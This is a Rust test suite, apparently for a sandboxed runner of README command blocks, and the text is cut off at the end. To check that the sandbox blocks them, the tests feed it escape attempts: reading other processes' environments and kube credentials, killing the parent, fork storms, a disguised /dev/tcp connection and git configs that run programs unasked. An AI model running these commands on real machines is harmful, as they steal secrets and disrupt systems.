//! Checks with real processes: what passes and what does not, who must allow what, and what no command may do.
#![cfg(target_os = "linux")]

#[path = "checks/repo.rs"]
#[expect(dead_code, reason = "the tests of hostile repositories use more of it")]
mod repo;
#[path = "shop/token.rs"]
mod token;

use proptest::prelude::*;
use repo::{Repo, fence, processes_with, survivors};

/// Programs of an operator, in a folder that is searched first.
struct Programs {
    place: tempfile::TempDir,
}

impl Programs {
    fn new() -> Self {
        Self { place: tempfile::tempdir().expect("there is room") }
    }

    fn add(&self, name: &str, script: &str) {
        let program = self.place.path().join(name);
        std::fs::write(&program, script).expect("there is room");
        let mode = std::os::unix::fs::PermissionsExt::from_mode(0o755);
        std::fs::set_permissions(program, mode).expect("it is there");
    }

    /// `PATH` with them.
    fn path(&self) -> String {
        format!("{}:{}", self.place.path().display(), std::env::var("PATH").expect("there is a path"))
    }
}

#[test]
fn a_page_is_run_judged_and_shown() {
    let page = fence("check=read name=right", "echo v20.1.0")
        + "```output\n>=20 (semver)\n```\n\n"
        + &fence("check=read name=wrong", "echo hello");
    let repo = Repo::with(&(page + "```output\ngood bye\n```\n"));
    let said = repo.run(&["check", "--jobs", "1"]);
    assert_eq!(said.code, 1, "{}", said.err);
    for words in
        ["passed   README.md:1 right", "failed   README.md:9 wrong", "  - good bye", "  + hello", "1 passed, 1 failed"]
    {
        assert!(said.out.contains(words), "{words}: {}", said.out);
    }
    assert_eq!(repo.run(&["check", "--name", "right"]).code, 0);
    assert_eq!(repo.run(&["check", "--name", "none"]).code, 2);
}

#[test]
fn exit_codes_tell_what_is_missing() {
    let code = |page: String| Repo::with(&page).run(&["check"]).code;
    assert_eq!(code(fence("check=read", "true")), 0);
    assert_eq!(code(fence("check=read", "false")), 1);
    assert_eq!(code(fence("check=read exit=1", "false")), 0);
    assert_eq!(code(fence("check=read", "make deploy")), 3);
    assert_eq!(code(fence("check=read timout=1", "true")), 4);
    assert_eq!(code(fence("check=read os=windows", "true")), 0);
    assert_eq!(code(fence("check=read requires=no-such-program", "true")), 0);
    let skipped = fence("check=read name=a os=windows", "true");
    assert_eq!(code(skipped.clone() + &fence("check=read needs=a", "true")), 0, "what waits for it is skipped too");
    let failed = fence("check=read name=b", "false");
    assert_eq!(code(skipped + &failed + &fence("check=read needs=a:b", "true")), 1);
    assert_eq!(code("No checks.\n".to_owned()), 0);
}

#[test]
fn what_runs_nothing_never_passes() {
    let console = |text: &str| format!("```console {{ check=read }}\n{text}\n```\n");
    let lost = "<!-- check: read name=x -->\n";
    let sh = "```sh\nfalse\n```\n";
    for page in [
        console("user@host:~$ false"),
        console("sh-5.1$ false"),
        console("PS C:\\> false"),
        console("[root@host ~]# false"),
        console("$false"),
        console(">>> false"),
        console("only output"),
        console("$ # false"),
        fence("check=read", ""),
        fence("check=read", "# false\n\n  # nothing"),
        format!("{lost}\nWords.\n\n{sh}"),
        format!("{lost}\n- ```sh\n  false\n  ```\n"),
        format!("{lost}\n    false\n"),
        format!("{lost}\n# The end\n"),
    ] {
        let repo = Repo::with(&page);
        for arguments in [&["check"][..], &["check", "--plan"], &["check", "README.md"]] {
            assert_eq!(repo.run(arguments).code, 4, "{page}");
        }
        let said = repo.run(&["lint", "--format", "concise"]);
        assert!(said.out.contains("invalid-check"), "{page}{}", said.out);
    }
    for page in [
        format!("{lost}<!-- devops-docs: allow(broken-link) x -->\n{sh}"),
        format!("{} <!-- why -->\n{sh}", lost.trim_end()),
        format!("<!-- check: read the log -->\n\nWords.\n\n{sh}").replace("false", "true"),
        "```sh title=\"{ check=read }\"\nfalse\n```\n".to_owned(),
    ] {
        let code = Repo::with(&page).run(&["check"]).code;
        assert_eq!(code, i32::from(page.starts_with(lost.trim_end())), "{page}");
    }
}

#[test]
fn plans_and_results_are_what_the_schemas_say() {
    let page = fence("check=read name=passes", "echo hello")
        + "```output\nhello\n```\n\n"
        + &fence("check=read name=differs", "echo hello")
        + "```output\nbye\n```\n\n"
        + &fence("check=read name=slow timeout=1", "sleep 9")
        + &fence("check=read name=raised needs=passes cwd=tmp net=true secrets=KEY", "make deploy")
        + &fence("check=read exit=any", "false")
        + &fence("check=read timout=1", "true")
        + &fence("check=manual name=by-hand excludeFromRunAll=true", "look at it");
    let repo = Repo::with(&page);
    repo.commit();
    for arguments in [&["README.md"][..], &["--env", "local"], &["--name", "passes"]] {
        let run = |more: &[&str]| repo.run(&[&["check", "--format", "json"], arguments, more].concat());
        repo.is_by_schema("plan", &run(&["--plan"]));
        repo.is_by_schema("check", &run(&[]));
    }
    let none = Repo::with("# No checks\n");
    none.is_by_schema("check", &none.run(&["check", "--format", "json"]));
}

#[test]
fn whoever_watches_sees_what_runs_and_since_when() {
    let page = fence("check=read name=quick", "true") + &fence("check=read name=slow", "sleep 2.5");
    let repo = Repo::with(&page);
    let seen = repo.at_terminal("check --jobs 1", "");
    let live: Vec<usize> = seen.match_indices("running slow, ").map(|(at, _)| at).collect();
    assert!(live.len() >= 2 && seen.contains("running slow, 1 s …\u{1b}[K"), "{seen}");
    // Rewritten in its place, and gone before the next line stands.
    assert!(live.iter().all(|at| seen[..*at].ends_with('\r')), "{seen}");
    assert!(seen.contains("\r\u{1b}[Kpassed   README.md:5 slow") || seen.contains("\r\u{1b}[K\u{1b}"), "{seen}");
    assert!(seen.rfind("running") < seen.rfind("2 passed"), "{seen}");
    let piped = repo.run(&["check"]);
    assert!(!piped.err.contains("running") && !piped.out.contains('\r'), "{}{}", piped.out, piped.err);
}

#[test]
fn the_first_command_that_fails_fails_the_check() {
    let repo = Repo::with(&fence("check=read name=a", "false\ntrue"));
    assert_eq!(repo.run(&["check", "--format", "json"]).status("a"), "failed");
}

#[test]
fn a_session_shares_a_shell_and_a_transcript_is_one() {
    let page = fence("check=read name=set session=s", "x=5")
        + &fence("check=read name=get session=s", "echo $x")
        + "```output\n5\n```\n\n"
        + &fence("check=read name=other", "echo \"[$x]\"")
        + "```output\n[]\n```\n\n"
        + "```console { check=read name=transcript }\n$ y=6\n$ echo $y >&2; echo $y\n6\n$ false\n[1]\n```\n";
    let said = Repo::with(&page).run(&["check", "--format", "json"]);
    for name in ["set", "get", "other", "transcript"] {
        assert_eq!(said.status(name), "passed", "{}", said.out);
    }
}

#[test]
fn in_a_session_the_first_command_that_fails_is_seen_too() {
    for shell in ["bash", "sh"] {
        let page = fence("check=read name=set session=s", "x=5\n[ -f /no/such ] && echo no\nif false; then x=6; fi")
            + &fence("check=read name=expected session=s exit=1", "test -f /no/such")
            + &fence("check=read name=middle session=s", "echo $x\nfalse\ntrue")
            + "```output\n5\n```\n\n"
            + &fence("check=read name=below session=s", "true")
            + "```console { check=read name=transcript }\n$ true\n$ false; true\n$ echo late\nlate\n```\n\n"
            + "```console { check=read name=expects }\n$ false\n[1]\n$ echo on\non\n```\n";
        let said = Repo::with(&page.replace("```bash", &format!("```{shell}"))).run(&["check", "--format", "json"]);
        let of = |name: &str| said.status(name);
        assert_eq!(
            [of("set"), of("expected"), of("middle"), of("below")],
            ["passed", "passed", "failed", "blocked"],
            "{}",
            said.out
        );
        assert_eq!(said.check("middle")["why"], "it ended with 1, not 0");
        assert_eq!([of("transcript"), of("expects")], ["failed", "passed"], "{}", said.out);
    }
}

#[test]
fn what_a_shell_leaves_undone_is_blocked() {
    let page = fence("check=read name=leave session=s exit=3", "exit 3")
        + &fence("check=read name=late session=s", "true")
        + &fence("check=read name=after needs=late", "true");
    let said = Repo::with(&page).run(&["check", "--format", "json"]);
    assert_eq!([said.status("leave"), said.status("late"), said.status("after")], ["passed", "blocked", "blocked"]);
}

#[test]
fn each_of_a_session_has_its_own_time_and_the_secrets_of_all() {
    let page = fence("check=read name=quick session=s timeout=1", "sleep 0.1")
        + &fence("check=read name=slow session=s timeout=9", "sleep 1.5; echo slow")
        + "```output\nslow\n```\n\n"
        + &fence("check=read name=late session=s timeout=1", "sleep 98775")
        + &fence("check=read name=never session=s", "true")
        + &fence("check=read name=opens session=t", "true")
        + &fence("check=read name=takes session=t secrets=DEPLOY_KEY", "echo $DEPLOY_KEY");
    let repo = Repo::with(&page);
    let variables = [("DEPLOY_KEY", "tops3cret")];
    let said = repo.run_with(&["check", "--format", "json", "--allow-secret", "DEPLOY_KEY"], &variables);
    let of = |name: &str| said.status(name);
    assert_eq!(
        [of("quick"), of("slow"), of("late"), of("never")],
        ["passed", "passed", "timeout", "blocked"],
        "{}",
        said.out
    );
    assert_eq!(said.check("late")["why"], "it took longer than 1 s, and was ended");
    assert_eq!([of("opens"), of("takes")], ["blocked", "error"]);
    let said = repo.run(&["lint", "--format", "concise"]);
    assert!(said.out.contains("all checks of the session t ask for the same secrets"), "{}", said.out);
}

#[test]
fn streams_are_told_apart() {
    let both = "echo out; echo err >&2";
    let page = fence("check=read name=out", both)
        + "```output\nout\n```\n\n"
        + &fence("check=read name=err stream=stderr", both)
        + "```output\nerr\n```\n\n"
        + &fence("check=read name=both stream=both", both)
        + "```output\nout\nerr\n```\n";
    let said = Repo::with(&page).run(&["check", "--format", "json"]);
    assert_eq!([said.status("out"), said.status("err"), said.status("both")], ["passed"; 3]);
}

#[test]
fn a_command_finds_little_around_it() {
    let page = fence("check=read name=env", "printf '%s\\n' \"$HOME\" \"$LC_ALL\" \"[$SECRET_OF_MINE]\"")
        + "```output\n[..]/home\nC.UTF-8\n[]\n```\n";
    let said = Repo::with(&page).run_with(&["check", "--format", "json"], &[("SECRET_OF_MINE", "abcdefgh")]);
    assert_eq!(said.status("env"), "passed", "{}", said.out);
}

#[test]
fn nothing_survives_its_check() {
    let scripts = [
        ("many", "for i in $(seq 60); do sleep 98761 & done"),
        ("sessions", "setsid sh -c 'setsid sleep 98762 & setsid sleep 98762 &'"),
        (
            "deaf",
            "trap '' TERM INT HUP; sh -c 'trap \"\" TERM; sleep 98763 & wait; sleep 98763' & while :; do sleep 98763; done",
        ),
        ("holds", "sleep 98764 & echo done"),
        ("nested", "sh -c 'sh -c \"sh -c \\\"sleep 98765 & sleep 98765\\\" &\" &' ; sleep 98765"),
        ("forks", "f() { [ $1 -gt 0 ] || { sleep 98766; return; }; f $(($1 - 1)) & f $(($1 - 1)) & wait; }; f 6"),
    ];
    let page: String =
        scripts.iter().map(|(name, script)| fence(&format!("check=read name={name} timeout=1"), script)).collect();
    let said = Repo::with(&page).approved(&["--jobs", "6"], &[]);
    for (name, _) in scripts {
        let ended = said.status(name);
        let wanted = if matches!(name, "deaf" | "nested" | "forks") { "timeout" } else { "passed" };
        assert_eq!(ended, wanted, "{name}: {}", said.out);
    }
    assert_eq!(processes_with("sleep\09876"), [""; 0]);
    assert_eq!(survivors(concat!(env!("CARGO_BIN_EXE_devops-docs"), "\0__run-helper")), [""; 0]);
}

#[test]
fn a_command_that_kills_its_keeper_does_not_outlive_it() {
    let kills = "setsid sleep 98768 & sleep 98768 & kill -9 $PPID; sleep 98768";
    let page = fence("check=write name=kills excludeFromRunAll=true", kills) + &fence("check=read name=next", "true");
    let said = Repo::with(&page).approved(&["--jobs", "1"], &[]);
    assert_eq!((said.status("kills").as_str(), said.status("next").as_str(), said.code), ("error", "passed", 4));
    assert_eq!(processes_with("sleep\098768"), [""; 0]);
}

#[test]
fn a_confined_command_reaches_no_thread_of_its_keeper() {
    // The thread that starts it is confined like it, and has the next numbers.
    let kills = [
        "python3 - \"$PPID\" <<'E'",
        "import os, sys",
        "keeper, own, done = int(sys.argv[1]), (os.getpid(), os.getppid()), []",
        "for thread in range(keeper, keeper + 64):",
        "    try:",
        "        if thread not in own: os.kill(thread, 9); done.append(thread)",
        "    except OSError: pass",
        "print(done)",
        "E",
    ];
    let storm = "setsid sh -c 'f() { sleep 0.01; f & exit; }; f' & sleep 98774 & true";
    let page = fence("check=read name=kills timeout=5", &kills.join("\n"))
        + "```output\n[]\n```\n"
        + &fence("check=read name=storm timeout=5", storm);
    let said = Repo::with(&page).approved(&["--jobs", "1"], &[]);
    assert_eq!([said.status("kills"), said.status("storm")], ["passed", "passed"], "{}", said.out);
    assert_eq!(processes_with("sleep\098774"), [""; 0]);
    assert_eq!(processes_with("f() { sleep 0.01"), [""; 0]);
}

#[test]
fn what_a_command_writes_is_no_setting_of_the_next() {
    let page =
        fence("check=read name=git", "printf 'gitdir: %s/g' \"$PWD\" > \"$TMPDIR/.git\"\ncd \"$TMPDIR\"\ngit diff")
            + &fence("check=read name=empty cwd=tmp", "echo '[toolchain]' > rust-toolchain.toml\ncargo --version")
            + &fence("check=read name=told", "echo x > \"$TMPDIR/.git\"\ngit -C \"$TMPDIR\" diff")
            + &fence("check=read name=first session=s", "printf 'gitdir: g' > \"$TMPDIR/.git\"")
            + &fence("check=read name=second session=s", "cd \"$TMPDIR\"\ngit diff")
            + &fence("check=read name=kept", "ls > \"$TMPDIR/names\"\ngrep -c README \"$TMPDIR/names\"\ngit --version");
    let said = Repo::with(&page).run(&["check", "--format", "json"]);
    for name in ["git", "empty", "told", "first", "second"] {
        assert_eq!(said.status(name), "needs-approval", "{name}: {}", said.out);
    }
    assert_eq!(said.status("kept"), "passed", "{}", said.out);
}

#[test]
fn a_file_that_git_takes_in_names_no_program_that_runs_unasked() {
    let repo = Repo::with(&fence("check=read name=log", "git log -p -1"));
    repo.git(&["config", "include.path", "../.gitconfig"]);
    repo.write(".gitconfig", "[filter \"a=b\"]\n clean = touch made; cat\n[filter \"x\"]\n clean = touch made; cat\n[diff \"x\"]\n textconv = touch made; cat\n");
    repo.write(".gitattributes", "*.dat filter=x diff=x\n*.bin filter=a=b\n");
    repo.commit();
    repo.write("a.dat", "a");
    repo.write("a.bin", "a");
    repo.commit();
    std::fs::remove_file(repo.root().join("made")).expect("git itself ran it");
    repo.write("a.dat", "b");
    repo.write("a.bin", "b");
    let said = repo.run(&["check", "--base", "HEAD", "--format", "json"]);
    assert_ne!(said.status("log"), "passed", "{}", said.out);
    repo.run(&["lint", "--since", "HEAD"]);
    assert!(!repo.root().join("made").exists());
}

#[test]
fn a_command_that_stops_its_keeper_has_no_more_time_than_others() {
    let stops = [
        ("once", "kill -STOP $PPID; sleep 98773"),
        ("again", "trap '' TERM; setsid sh -c \"while :; do kill -STOP $PPID; done\" & sleep 98773"),
    ];
    let page: String = stops
        .iter()
        .map(|(name, script)| fence(&format!("check=write name={name} timeout=1 excludeFromRunAll=true"), script))
        .collect();
    let repo = Repo::with(&(page + &fence("check=read name=next", "true")));
    let before = std::time::Instant::now();
    let said = repo.approved(&["--jobs", "1"], &[]);
    assert!(before.elapsed() < std::time::Duration::from_secs(20), "{:?}", before.elapsed());
    assert_eq!([said.status("once"), said.status("next")], ["timeout", "passed"], "{}", said.out);
    assert!(["timeout", "error"].contains(&said.status("again").as_str()), "{}", said.out);
    assert_eq!(processes_with("sleep\098773"), [""; 0]);
    assert_eq!(processes_with("kill -STOP"), [""; 0]);
}

#[test]
fn what_was_meant_to_be_a_check_is_told_and_fails() {
    let page = fence("chek=read name=misspelt", "touch made")
        + &fence("check=raed name=effect", "touch made")
        + &fence("check name=bare", "touch made")
        + &fence("check=write name=key timout=1 excludeFromRunAll=true", "touch made")
        + "```sh check=read\ntouch made\n```\n\n<!-- chek: read name=comment -->\n```sh\ntouch made\n```\n\n"
        + &fence("check=read name=right", "true")
        + "```sh { check=read name=open }\ntouch made\n";
    let repo = Repo::with(&page);
    let said = repo.run(&["check", "--format", "json"]);
    for name in ["misspelt", "effect", "bare", "key", "#5", "comment", "open"] {
        assert_eq!(said.status(name), "error", "{name}");
    }
    assert_eq!((said.status("right").as_str(), said.code), ("passed", 4));
    let plan = repo.run(&["check", "--plan"]);
    for words in [
        "error    README.md:1 misspelt: it is not understood: `chek` is not `check`, so these commands never run",
        "open: it is not understood: this block has no end, so it never runs; close it",
    ] {
        assert!(plan.out.contains(words), "{words}: {}", plan.out);
    }
    assert_eq!(plan.code, 4);
    let lint = repo.run(&["lint", "--select", "invalid-check", "--format", "concise"]);
    assert_eq!(lint.out.lines().filter(|line| line.contains("invalid-check")).count(), 7, "{}", lint.out);
    assert!(!repo.root().join("made").exists());
    // What others write is nobody's business, and no plan of right checks fails.
    let repo =
        Repo::with(&(fence("name=install", "touch made") + "<!-- check: this again -->\n```sh\ntouch made\n```\n"));
    assert_eq!([repo.run(&["check", "--plan"]).code, repo.run(&["check"]).code], [0, 0]);
}

#[test]
fn an_operator_who_is_mistaken_is_told() {
    let repo = Repo::with(&fence("check=read name=a", "true"));
    assert_eq!(repo.run(&["check", "--env", "anything"]).code, 0, "no environment is known here");
    repo.write("_ai/devops/environments/staging.md", "# Staging\n");
    repo.write("README.md", &(fence("check=read name=a", "true") + &fence("check=read name=b env=production", "true")));
    for known in ["staging", "production", "local"] {
        assert_eq!(repo.run(&["check", "--env", known]).code, 0, "{known}");
    }
    let said = repo.run(&["check", "--env", "nonesuch"]);
    let wanted = "no page and no check is about the environment `nonesuch`; there are production, staging";
    assert!(said.code == 2 && said.err.contains(wanted), "{}", said.err);
    for given in ["KEY=tops3cret", "tops3cret value", "", "-tops3cret"] {
        let option = format!("--allow-secret={given}");
        for command in
            [&["check", &option][..], &["check", "--plan", &option], &["gate", "env-ready", "--run", &option]]
        {
            let said = repo.run(command);
            assert!(said.code == 2 && !(said.out + &said.err).contains("tops3cret"), "{command:?}: {}", said.err);
        }
    }
}

#[test]
fn an_interrupted_run_leaves_nothing() {
    let repo = Repo::with(&fence("check=read name=a", "sleep 98771"));
    let mut child = std::process::Command::new(env!("CARGO_BIN_EXE_devops-docs"))
        .current_dir(repo.root())
        .arg("check")
        .stdout(std::process::Stdio::null())
        .spawn()
        .expect("it starts");
    while processes_with("sleep\098771").is_empty() {
        std::thread::yield_now();
    }
    child.kill().expect("it is there");
    child.wait().expect("it was killed");
    while !processes_with("sleep\098771").is_empty() {
        std::thread::yield_now();
    }
}

#[test]
fn a_gigabyte_of_output_is_not_kept() {
    let page = fence("check=read name=flood timeout=60", "head -c 1000000000 /dev/zero | tr '\\0' x")
        + &fence("check=read name=compared timeout=60", "head -c 3000000 /dev/zero | tr '\\0' x")
        + "```output\n[..]\n```\n";
    let repo = Repo::with(&page);
    let said = repo.run(&["check", "--format", "json", "--record"]);
    assert_eq!([said.status("flood"), said.status("compared")], ["passed", "failed"]);
    assert!(said.check("flood")["output"].as_str().expect("it is text").len() <= 1 << 20);
    assert!(repo.read("_ai/devops/checks/local.json").len() < 64 << 10);
}

#[test]
fn a_page_that_cannot_be_read_is_told() {
    let repo = Repo::with("# A\n\0\n```sh { check=read }\nfalse\n```\n");
    repo.write("old.md", "# B\r\r```sh { check=read }\rfalse\r```\r");
    let said = repo.run(&["check"]);
    for page in ["README.md", "old.md"] {
        let told = format!("{page} cannot be read as text, so nothing is known of its checks");
        assert!(said.err.contains(&told), "{}", said.err);
        assert_eq!(repo.run(&["check", page]).code, 2, "{page}");
    }
}

#[test]
fn of_a_flood_a_person_sees_both_ends() {
    let page = fence("check=read name=line", "head -c 300000 /dev/zero | tr '\\0' x; echo end; exit 3")
        + &fence("check=read name=lines", "seq 1 5000; exit 3");
    let said = Repo::with(&page).run(&["check"]);
    assert!(said.out.len() < 4000, "{}", said.out.len());
    assert!(said.out.contains("x … 299505 more letters … x") && said.out.contains("xxend\n"), "{}", said.out);
    let middle = "\n    40\n    … 4940 more lines …\n    4981\n";
    assert!(said.out.contains(middle) && said.out.contains("\n    5000\n"), "{}", said.out);
}

#[test]
fn nobody_is_asked_by_a_command() {
    let page = fence("check=read name=tty", "cat < /dev/tty")
        + &fence("check=read name=stdin", "cat")
        + "```output\n```\n"
        + &fence("check=read name=talks", "echo x > /dev/tty");
    let said = Repo::with(&page).approved(&[], &[]);
    assert_eq!([said.status("tty"), said.status("stdin"), said.status("talks")], ["failed", "passed", "failed"]);
}

#[test]
fn nothing_outside_its_folder_is_changed() {
    let place = tempfile::tempdir().expect("there is room");
    let outside = place.path().join("there");
    std::fs::write(&outside, "as it was").expect("there is room");
    let path = outside.display().to_string();
    let scripts = [
        ("write", format!("echo x > {path}")),
        ("append", format!("echo x >> {path}")),
        ("new", format!("touch {path}-new")),
        ("remove", format!("rm -f {path}")),
        ("move", format!("mv {path} {path}-moved")),
        ("link", format!("ln {path} \"$TMPDIR/link\" && echo x > \"$TMPDIR/link\"")),
        ("symlink", format!("ln -s {path} \"$TMPDIR/link\" && echo x > \"$TMPDIR/link\"")),
        ("mode", format!("chmod 777 {path}")),
        ("time", format!("touch -d 2001-01-01 {path}")),
        ("repository", "echo x > README.md".to_owned()),
        ("repository-new", "mkdir made".to_owned()),
        ("home", "echo x > \"$HOME/x\"".to_owned()),
        ("read", format!("cat {path}")),
        ("parent", format!("cat /proc/$PPID/environ > /dev/null; kill -9 $PPID; echo x > {path}")),
    ];
    let page: String = scripts.iter().map(|(name, script)| fence(&format!("check=read name={name}"), script)).collect();
    let page = page + &fence("check=read name=own", "echo x > \"$TMPDIR/x\"; cat \"$TMPDIR/x\"");
    let repo = Repo::with(&page);
    let said = repo.approved(&["--require-sandbox"], &[]);
    for (name, _) in &scripts {
        assert_eq!(said.status(name), "failed", "{name}: {}", said.check(name));
    }
    assert_eq!(said.status("own"), "passed");
    assert_eq!(said.check("own")["sandbox"], "landlock+seccomp");
    assert_eq!(std::fs::read_to_string(&outside).expect("it is there"), "as it was");
    assert_eq!(std::fs::read_dir(place.path()).expect("it is there").count(), 1);
    let modified = outside.metadata().and_then(|metadata| metadata.modified()).expect("it is there");
    assert!(modified.elapsed().is_ok_and(|age| age.as_secs() < 3600));
    assert_eq!(repo.read("README.md"), page);
    assert!(!repo.root().join("made").exists());
}

#[test]
fn no_environment_of_another_process_is_read() {
    let greps = "grep -a -o 'CANARY_ENV=[A-Z0-9]*' /proc/[0-9]*/environ 2>/dev/null";
    let page = fence("check=read name=others exit=any", greps)
        + "```output\n```\n\n"
        + &fence("check=read name=capabilities", "grep '^Cap' /proc/self/status | cut -f 2 | sort -u")
        + "```output\n0000000000000000\n```\n";
    let mut other =
        std::process::Command::new("sleep").arg("98772").env("CANARY_ENV", "OTHER").spawn().expect("it starts");
    let said = Repo::with(&page).run_with(&["check", "--format", "json"], &[("CANARY_ENV", "OURS")]);
    other.kill().and_then(|()| other.wait()).expect("it was there");
    for name in ["others", "capabilities"] {
        assert_eq!(said.status(name), "passed", "{name}: {}", said.out);
    }
}

#[test]
fn git_runs_nothing_that_a_repository_names() {
    let page = fence("check=read name=own stream=stderr", "git status --porcelain --untracked-files=no")
        + "```output\n```\n\n"
        + &fence("check=read name=hidden cwd=hidden exit=any", "git status");
    let repo = Repo::with(&page);
    repo.write("monitor", "#!/bin/sh\necho it ran >&2\n");
    repo.executable("monitor");
    let monitor = repo.root().join("monitor").display().to_string();
    repo.write("hidden/HEAD", "ref: refs/heads/main\n");
    repo.write("hidden/config", &format!("[core]\nbare = false\nworktree = .\nfsmonitor = {monitor}\n"));
    repo.write("hidden/objects/keep", "");
    repo.write("hidden/refs/keep", "");
    repo.git(&["config", "core.fsmonitor", &monitor]);
    let said = repo.run(&["check", "--format", "json"]);
    assert_eq!(said.status("own"), "passed", "{}", said.out);
    assert!(said.check("hidden")["output"].to_string().contains("safe.bareRepository"), "{}", said.out);
    assert!(!said.out.contains("it ran"), "{}", said.out);
}

#[test]
fn nothing_that_was_open_before_is_open_to_a_command() {
    let page = fence("check=read name=open", "ls /proc/self/fd | tail -n +4 | wc -l")
        + "```output\n1\n```\n\n"
        + &fence("check=read name=seven exit=any", "echo x >&7")
        + &fence("check=write name=write exit=any excludeFromRunAll=true", "echo x >&7");
    let repo = Repo::with(&page);
    let approvals = repo.approve();
    let script = format!(
        "exec 7>out; exec {} check README.md --format json --approvals {approvals}",
        env!("CARGO_BIN_EXE_devops-docs")
    );
    let out =
        std::process::Command::new("sh").current_dir(repo.root()).args(["-c", &script]).output().expect("it runs");
    let said = repo::Said {
        code: out.status.code().expect("it ends by itself"),
        out: String::from_utf8_lossy(&out.stdout).into_owned(),
        err: String::from_utf8_lossy(&out.stderr).into_owned(),
    };
    assert_eq!([said.status("open"), said.status("seven"), said.status("write")], ["passed"; 3], "{}", said.out);
    assert_eq!(repo.read("out"), "");
}

#[test]
fn no_connection_is_opened_that_was_not_granted() {
    let listener = std::net::TcpListener::bind("127.0.0.1:0").expect("there is a port");
    let port = listener.local_addr().expect("it has one").port();
    // In this form nobody sees that it is one.
    let knock = format!("p=/dev; exec 3<>$p/tcp/127.0.0.1/{port}");
    let repo = Repo::with(&(fence("check=read name=silent", &knock) + &fence("check=read name=asks net=true", &knock)));
    let said = repo.approved(&[], &[]);
    assert_eq!([said.status("silent"), said.status("asks")], ["failed", "needs-approval"]);
    listener.set_nonblocking(true).expect("it can");
    assert!(listener.accept().is_err());
    let said = repo.approved(&["--allow-net"], &[]);
    assert_eq!([said.status("silent"), said.status("asks")], ["failed", "passed"]);
    assert!(listener.accept().is_ok());
}

#[test]
fn a_daemon_of_the_machine_is_asked_only_by_programs_that_are_known_to() {
    let place = tempfile::tempdir().expect("there is room");
    let socket = place.path().join("docker.sock");
    let listener = std::os::unix::net::UnixListener::bind(&socket).expect("there is room");
    listener.set_nonblocking(true).expect("it can");
    let knock = format!("import socket; socket.socket(socket.AF_UNIX).connect('{}')", socket.display());
    let post = place.path().join("post.sock");
    let received = std::os::unix::net::UnixDatagram::bind(&post).expect("there is room");
    received.set_nonblocking(true).expect("it can");
    let send = format!(
        "import socket; socket.socketpair(socket.AF_UNIX, socket.SOCK_DGRAM)[0].sendto(b'x', '{}')",
        post.display()
    );
    let programs = Programs::new();
    for (name, does) in [("docker", &knock), ("kubectl", &knock), ("helm", &send)] {
        programs.add(name, &format!("#!/bin/sh\nexec python3 -c \"{does}\"\n"));
    }
    programs.add("podman", &format!("#!/usr/bin/env python3\n{knock}\n"));
    let page = fence("check=read name=docker net=true", "docker ps")
        + &fence("check=read name=kubectl net=true", "kubectl get pods")
        + &fence("check=read name=helm net=true", "helm list")
        + &fence("check=read name=filtered net=true", "docker ps | grep -c web || true")
        // What loads code of the repository would have the way to the daemon.
        + &fence("check=read name=beside net=true", "docker ps\npip list")
        + &fence("check=read name=loaded net=true", "podman ps")
        + &fence("check=read name=curl net=true", "docker ps && curl -fs http://127.0.0.1:1/ || true")
        + &fence("check=read name=first net=true session=s", "docker ps")
        + &fence("check=read name=second session=s", "pip list");
    let path = programs.path();
    let said = Repo::with(&page).run_with(&["check", "--allow-net", "--format", "json"], &[("PATH", &path)]);
    let statuses = |names: &[&str]| names.iter().map(|name| said.status(name)).collect::<Vec<_>>();
    assert_eq!(statuses(&["docker", "filtered"]), ["passed", "passed"], "{}", said.out);
    assert_eq!(statuses(&["kubectl", "helm"]), ["failed", "failed"], "{}", said.out);
    assert_eq!(statuses(&["beside", "loaded", "first", "second"]), ["needs-approval"; 4], "{}", said.out);
    assert_eq!(said.status("curl"), "passed", "{}", said.out);
    assert!((0..3).all(|_| listener.accept().is_ok()) && listener.accept().is_err());
    assert!(received.recv(&mut [0]).is_err(), "nothing is sent either");
}

#[test]
fn a_program_is_not_asked_where_git_lists_nothing() {
    let page = fence("check=read name=stands cwd=tool", "cargo --version")
        + &fence("check=read name=goes", "cd tool\ncargo --version")
        + &fence("check=read name=goes-on session=s", "cd tool")
        + &fence("check=read name=asks session=s", "cargo --version")
        + &fence("check=read name=deeper", "cd src\ncd deep\ncargo --version")
        + &fence("check=read name=linked cwd=up", "cargo --version")
        + &fence("check=read name=looped", "for i in 1 2; do\ncd src || cd deep\ndone\ncargo --version")
        + &fence("check=read name=of-a-process", "cd /proc/self/cwd/tool\ncargo --version")
        + &fence("check=read name=begun session=t cwd=tool", "true")
        + &fence("check=read name=joined session=t", "cargo --version")
        + &fence("check=read name=inside cwd=src", "cat a");
    let repo = Repo::with(&page);
    repo.write(".gitignore", "tool/\nsrc/deep/\n");
    // One of this name is listed elsewhere.
    repo.write("deep/a", "a\n");
    repo.write("src/deep/rust-toolchain.toml", "[toolchain]\npath = \"tc\"\n");
    std::os::unix::fs::symlink("tool", repo.root().join("up")).expect("a link can be made");
    repo.write("tool/rust-toolchain.toml", "[toolchain]\npath = \"tc\"\n");
    repo.write("src/a", "a\n");
    repo.commit();
    let said = repo.run(&["check", "--format", "json"]);
    for name in ["stands", "goes", "asks", "deeper", "linked", "looped", "of-a-process", "joined"] {
        assert_eq!(said.status(name), "needs-approval", "{name}: {}", said.out);
    }
    assert_eq!(said.status("inside"), "passed", "{}", said.out);
}

#[test]
fn a_pull_request_is_lent_no_login() {
    let programs = Programs::new();
    programs.add("kubectl", "#!/bin/sh\ncat \"$HOME/.kube/config\"\n");
    let path = programs.path();
    let repo = Repo::with(&fence("check=read name=pods net=true", "kubectl get pods"));
    repo.write_at_home(".kube/config", "clusters: []\n");
    repo.commit();
    let approvals = repo.approve();
    let run = |more: &[&str]| {
        let all = ["check", "--allow-net", "--format", "json", "--approvals", &approvals];
        repo.run_with(&[&all[..], more].concat(), &[("PATH", &path)])
    };
    assert_eq!(run(&[]).status("pods"), "passed", "{}", run(&[]).out);
    repo.write("new.txt", "brought\n");
    let said = run(&["--base", "HEAD"]);
    assert_eq!(said.status("pods"), "failed", "{}", said.out);
    assert!(!said.out.contains("clusters") && said.out.contains("in a pull request it is lent none"), "{}", said.out);
    // Whoever did not approve is told why nobody is logged in.
    let unasked = repo.run_with(&["check", "--allow-net", "--format", "json"], &[("PATH", &path)]);
    let why = unasked.check("pods")["why"].as_str().expect("it failed").to_owned();
    assert!(why.contains("does not see the logins of `kubectl`: only an approval lends it"), "{why}");
}

#[test]
fn calls_that_only_newer_kernels_know_do_nothing() {
    // Each call is made in another process, so that what one of them does the next does not see.
    let call = "import ctypes, os, sys; libc = ctypes.CDLL(None, use_errno=True); \
